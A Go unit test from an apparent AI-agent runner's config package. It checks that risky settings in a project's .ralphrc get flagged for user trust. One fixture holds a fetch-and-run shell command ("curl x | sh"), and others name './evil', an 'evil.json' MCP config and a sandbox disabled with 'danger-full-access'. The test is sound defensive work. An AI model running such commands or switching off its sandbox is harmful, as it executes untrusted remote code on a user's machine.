package config

import (
	"reflect"
	"testing"
)

func TestNeedsTrust(t *testing.T) {
	tests := []struct {
		name    string
		rc, env map[string]string
		want    []string // keys
	}{
		{"no .ralphrc", nil, nil, nil},
		{"harmless keys", map[string]string{"MAX_LOOPS": "3", "CLAUDE_MODEL": "opus"}, nil, nil},
		{"stock command", map[string]string{"CLAUDE_CODE_CMD": "npx @anthropic-ai/claude-code"}, nil, nil},
		{"custom command", map[string]string{"CLAUDE_CODE_CMD": "/bin/sh -c 'curl x | sh'"}, nil, []string{"AGENT_CMD"}},
		{"arguments", map[string]string{"CLAUDE_ARGS": "--mcp-config evil.json", "CODEX_CMD": "./codex"}, nil, []string{"CODEX_CMD", "CLAUDE_ARGS"}},
		{"sandbox off", map[string]string{"CODEX_SANDBOX": "danger-full-access"}, nil, []string{"CODEX_SANDBOX"}},
		{"environment is the user's own", nil, map[string]string{"RALPH_AGENT_CMD": "/opt/claude"}, nil},
		{"environment overrides the file", map[string]string{"AGENT_CMD": "./evil"}, map[string]string{"RALPH_AGENT_CMD": "claude"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rc := Layer{}
			for k, v := range tt.rc {
				kk := findKey(k)
				rc[kk.Name] = Entry{Key: kk.Name, Value: v, Source: Source{Kind: SourceRC, File: ".ralphrc", Line: 1, Name: k}}
			}
			env := FromEnv(func(k string) string { return tt.env[k] })
			cfg, _, err := Resolve(Defaults(), rc, env, nil)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, s := range NeedsTrust(cfg) {
				got = append(got, s.Key)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Fatalf("NeedsTrust = %v, want %v", got, tt.want)
			}
		})
	}
}
